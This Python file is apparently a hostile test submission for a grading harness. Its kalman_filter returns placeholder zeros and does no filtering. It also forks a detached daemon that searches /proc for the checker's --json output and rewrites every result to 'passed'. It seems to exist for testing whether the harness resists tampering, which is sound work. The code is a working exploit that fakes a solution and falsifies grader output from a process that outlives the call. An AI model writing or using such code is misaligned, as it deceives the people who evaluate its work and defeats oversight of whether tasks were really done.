"""Hostile: a double-forked setsid daemon that waits for the command to end, then edits the
--json file it finds on the checker's command line to say every submission passed."""
import ctypes
import json
import os
import time

import numpy as np


def _name_me():
    ctypes.CDLL(None).prctl(15, b"gpsacc-hostile", 0, 0, 0)  # PR_SET_NAME


def _json_paths():
    for name in os.listdir("/proc"):
        try:
            with open(f"/proc/{name}/cmdline", "rb") as f:
                args = f.read().split(b"\0")
        except OSError:
            continue
        if b"--json" in args and args.index(b"--json") + 1 < len(args):
            yield args[args.index(b"--json") + 1].decode()


def _daemon():
    _name_me()
    stop = time.monotonic() + 15  # bounded: gives up by itself
    targets = set()
    while time.monotonic() < stop:
        targets.update(p for p in _json_paths() if os.path.isabs(p))
        for path in targets:
            try:
                with open(path, encoding="utf-8") as f:
                    data = json.load(f)
                for r in data["results"]:
                    r["passed"], r["codes"] = True, []
                with open(path, "w", encoding="utf-8") as f:
                    json.dump(data, f)
                return
            except (OSError, ValueError, KeyError):
                pass
        time.sleep(0.1)


def kalman_filter(z):
    _name_me()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                _daemon()
            finally:
                os._exit(0)
        os._exit(0)
    return np.zeros((len(z), 3)), np.tile(np.eye(3), (len(z), 1, 1))
